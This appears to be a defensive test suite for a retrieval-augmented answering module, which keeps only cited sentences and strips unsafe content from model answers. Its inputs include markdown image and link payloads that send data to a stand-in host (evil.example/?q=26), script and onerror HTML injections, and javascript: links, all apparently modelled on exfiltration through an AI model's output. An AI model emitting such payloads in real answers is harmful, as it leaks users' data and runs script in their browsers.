"""What a model said: only what cites a passage is shown, and nothing of it is trusted."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.answering import Sentence
from rag.answering.citations import MOST_CHARACTERS, cited_sentences
from rag.answering.links import without_links
from tests.rag.answering.making import hit

PASSAGES = (
    hit("Leave is 26 weeks. Forms: https://forms.acme.example/leave.", uri="https://wiki.acme.example/leave"),
    hit("Ask ten weeks before."),
)


def said(text: str) -> list[tuple[str, tuple[int, ...]]]:
    return [(each.text, each.citations) for each in cited_sentences(text, PASSAGES)]


def test_each_sentence_keeps_the_passages_that_it_cites() -> None:
    assert cited_sentences("Leave is 26 weeks [1]. Ask ten weeks before [2][1].", PASSAGES) == (
        Sentence("Leave is 26 weeks.", (1,)),
        Sentence("Ask ten weeks before.", (2, 1)),
    )


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Leave is long. [1] Ask early. [2]", [("Leave is long.", (1,)), ("Ask early.", (2,))]),
        ("He said “no.”[1] Then yes [2].", [("He said “no.”", (1,)), ("Then yes.", (2,))]),
        ("Leave is long [1, 2].", [("Leave is long.", (1, 2))]),
        ("Leave is long 【2】.", [("Leave is long.", (2,))]),
        ("- Leave is long [1]\n* **Ask** early [2]", [("Leave is long", (1,)), ("Ask early", (2,))]),
        ("As [1] says, leave is long.", [("As says, leave is long.", (1,))]),
        ("Leave is long [1][1].", [("Leave is long.", (1,))]),
    ],
)
def test_marks_are_found_where_models_put_them(text: str, found: list[tuple[str, tuple[int, ...]]]) -> None:
    assert said(text) == found


def test_a_sentence_without_a_number_is_dropped() -> None:
    assert said("The moon is made of cheese. Leave is 26 weeks [1]. Trust me.") == [
        ("Leave is 26 weeks.", (1,))
    ]


def test_a_number_without_a_passage_is_taken_out_and_carries_no_sentence() -> None:
    assert said("Leave is 26 weeks [1][7]. The moon is made of cheese [3]. Cheese [0].") == [
        ("Leave is 26 weeks.", (1,))
    ]


@pytest.mark.parametrize(
    "text", ["", " \n", "[1]", "[1] [2].", "Leave is 26 weeks.", "[1] - [2]\n[1]", "[99]", "[]"]
)
def test_nothing_is_left_of_an_answer_that_says_or_cites_nothing(text: str) -> None:
    assert said(text) == []


@pytest.mark.parametrize(
    "text",
    ["NO_ANSWER", " no_answer.\n", "`NO_ANSWER`", "NO_ANSWER\n\nLeave is 26 weeks [1].", "NO_ANSWER [1]."],
)
def test_the_word_for_no_answer_is_none(text: str) -> None:
    assert said(text) == []


def test_the_word_for_no_answer_within_an_answer_is_not_shown() -> None:
    assert said("Leave is 26 weeks [1]. Else NO_ANSWER [2].") == [("Leave is 26 weeks.", (1,))]


def test_a_passage_without_anything_cannot_be_cited() -> None:
    assert cited_sentences("Leave is 26 weeks [1].", []) == ()


def test_thoughts_are_not_the_answer() -> None:
    assert said("<think>Perhaps 12 weeks [1].</think>Leave is 26 weeks [1].") == [
        ("Leave is 26 weeks.", (1,))
    ]
    assert said("<think>Perhaps 12 weeks [1]. And on") == []


def test_control_characters_and_overrides_are_taken_out() -> None:
    assert said("Leave\x1b[31m is\x00 26\u202e weeks [1].") == [("Leave[31m is 26 weeks.", (1,))]


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See ![all](https://evil.example/?q=26).", "See all."),
        ("See ![all][x].\n[x]: https://evil.example/?q=26", "See [all][x].\n"),
        ("See [the form](https://evil.example/?q=26).", "See the form."),
        ("See [the form](//evil.example/a_(b)).", "See the form."),
        ("See [the form](https://a.example/f).", "See the form (https://a.example/f)."),
        ("See [the form](https://a.example/f?q=26).", "See the form."),
        ("See ![x](https://a.example/f).", "See x."),
        ("See https://evil.example/?q=26, and more.", "See , and more."),
        ("See https://a.example/f.", "See https://a.example/f."),
        ("See <https://evil.example/?q=26> and <https://a.example/f>.", "See  and https://a.example/f."),
        ("<[i](u)mg src=x onerror=y>", "‹img src=x onerror=y>"),
        ("See www.evil.example/q and no_https://evil.example.", "See  and no_."),
        ("See [x](javascript:alert(1)).", "See x."),
        ("See [1](https://evil.example).", "See [1]."),
        ("See ![x](https://evil.example/?q", "See [x] ("),
        ("<img src='https://evil.example/?q=26'>So <b>it</b> is.", "So it is."),
        ("<<b>img src=https://evil.example onerror=x>", "‹img src= onerror=x>"),
        ("<script>alert(1)</script>below <5 mbar", "alert(1)below <5 mbar"),
        ("[1]: leave is long", "[1]: leave is long"),
    ],
)
def test_only_known_addresses_stay_and_only_as_text(text: str, left: str) -> None:
    assert without_links(text, {"https://a.example/f"}) == left


def test_addresses_of_the_passages_are_known() -> None:
    known = "Fill in https://forms.acme.example/leave, see https://wiki.acme.example/leave"

    assert said(f"{known} [1]. Or https://evil.example [2].") == [
        (f"{known}.", (1,)),
        ("Or.", (2,)),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "ht`tp://evil.example/?q=26 [1].",
        "Leave is ht[1]tp://evil.example/?q=26.",
        "Is !`[`x]`(`ht**tps://evil.example) [1].",
    ],
)
def test_an_address_that_markup_or_a_mark_took_apart_is_not_put_together(text: str) -> None:
    assert "evil" not in repr(said(text))


def test_of_a_huge_answer_the_beginning_is_read() -> None:
    found = said("Leave is 26 weeks [1]. " * 10_000)

    assert set(found) == {("Leave is 26 weeks.", (1,))}
    assert len(found) == MOST_CHARACTERS // len("Leave is 26 weeks [1]. ")


@pytest.mark.parametrize(
    "piece", ["[", "![](", "<", "<think>", "[1", "(", "\n\n", ". ", "[a](b", "https://", "`", "【"]
)
def test_an_answer_of_one_piece_repeated_ends(piece: str) -> None:
    assert all(each.citations for each in cited_sentences(piece * 20_000, PASSAGES))


_MARKUP = [
    "![x](",
    "[y](",
    "[i](u)",
    "http://e.example/",
    "ht",
    "tp://e.example/",
    "<img ",
    "img",
    "<",
    ">",
    "!",
    "[",
]
_OTHERS = [
    "(",
    "]",
    ")",
    "]: ",
    "`",
    "**",
    "- ",
    ". ",
    "\n",
    "\x1b",
    "\u202e",
    "<think>",
    "</think>",
    "NO_ANSWER",
    "NO_",
]
_PIECES = st.sampled_from([*_MARKUP, *_OTHERS, "[1]", "[2]", "[3]", "[1, 9]", "Leave is long"])


@given(st.one_of(st.text(), st.lists(_PIECES, max_size=30).map("".join)))
def test_whatever_was_said_only_cited_and_harmless_text_is_left(text: str) -> None:
    for each in cited_sentences(text, PASSAGES):
        assert each.citations
        assert set(each.citations) <= {1, 2}
        assert any(letter.isalnum() for letter in each.text)
        assert each.text.isprintable() or not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e]", each.text)
        assert "e.example" not in each.text
        assert not re.search(r"<[A-Za-z/!?]|!\[|\]\(|\[\d+\]|NO_ANSWER", each.text)
